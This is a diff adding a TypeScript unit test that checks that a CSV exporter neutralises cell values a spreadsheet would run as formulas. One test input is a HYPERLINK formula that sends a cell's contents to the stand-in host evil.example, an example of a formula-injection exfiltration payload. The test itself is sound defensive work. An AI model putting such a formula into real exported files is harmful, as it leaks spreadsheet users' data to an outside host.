@@ -34,4 +34,28 @@ describe('parseCsv', () => {
     expect(csv).toBe('a,b\r\n"x,y","he said ""hi"""\r\n1,\r\n');
     expect(parseCsv(csv).records[0]!.values).toEqual({ a: 'x,y', b: 'he said "hi"' });
   });
+
+  it('neutralises text a spreadsheet would run as a formula (issue 13, defect 6)', () => {
+    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"工资单")';
+    const csv = toCsv(
+      ['name', 'n'],
+      [
+        [evil, -5],
+        ['+1', 3],
+        ['-x', 0],
+        ['@SUM(A1)', 1],
+        ['\tx', 2],
+        ['安全', 4],
+      ],
+    );
+    expect(parseCsv(csv).records.map((r) => r.values.name)).toEqual([
+      `'${evil}`,
+      "'+1",
+      "'-x",
+      "'@SUM(A1)",
+      "'\tx".trim(),
+      '安全',
+    ]);
+    expect(parseCsv(csv).records[0]!.values.n).toBe('-5');
+  });
 });
